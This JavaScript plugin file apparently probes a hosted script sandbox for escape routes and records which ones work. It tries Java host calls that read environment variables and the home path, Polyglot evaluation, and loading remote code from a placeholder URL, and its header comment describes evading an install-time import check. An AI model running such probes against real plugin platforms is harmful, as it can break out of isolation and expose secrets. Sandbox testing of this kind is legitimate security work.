// Runs each escape route and records what it got in event.properties.escape_attempts:
// "refused: <error>" when the route failed, "OPEN: <what it returned>" when it worked. It also
// logs each result, so the app log shows what was tried. Module names are built at run time so
// the install-time import check does not refuse the app before the worker can be probed.
async function attempt(results, route, fn) {
  try {
    const value = await fn()
    results[route] = "OPEN: " + describe(value)
  } catch (e) {
    results[route] = "refused: " + describe(e && e.message !== undefined ? e.message : e)
  }
  console.log(route + " -> " + results[route])
}

function describe(value) {
  try {
    return String(value).slice(0, 200)
  } catch (e) {
    return typeof value
  }
}

const moduleName = (...parts) => parts.join("")

export async function processEvent(event) {
  const results = {}
  await attempt(results, "Java.type System", () => Java.type("java.lang.System").getenv())
  await attempt(results, "Packages System", () => Packages.java.lang.System.getenv())
  await attempt(results, "java global", () => java.lang.System.getProperty("user.home"))
  await attempt(results, "Java.from", () => Java.from([1]))
  await attempt(results, "Polyglot.eval", () => Polyglot.eval("python", "1"))
  await attempt(results, "Polyglot.import", () => Polyglot.import("host"))
  await attempt(results, "load url", () => load("https://example.invalid/x.js"))
  await attempt(results, "load object", () => load({ script: "Java.type('java.lang.System')", name: "x.js" }))
  await attempt(results, "Graal", () => Graal.versionGraalVM)
  await attempt(results, "globalThis host names", () => {
    const found = ["Java", "Packages", "java", "javax", "Polyglot", "load", "loadWithNewGlobal", "Graal", "process", "require", "host"]
      .filter((name) => typeof globalThis[name] !== "undefined")
    if (found.length) return found.join(",")
    throw new Error("none of the host names is defined")
  })
  event.properties.escape_attempts = results
  return event
}
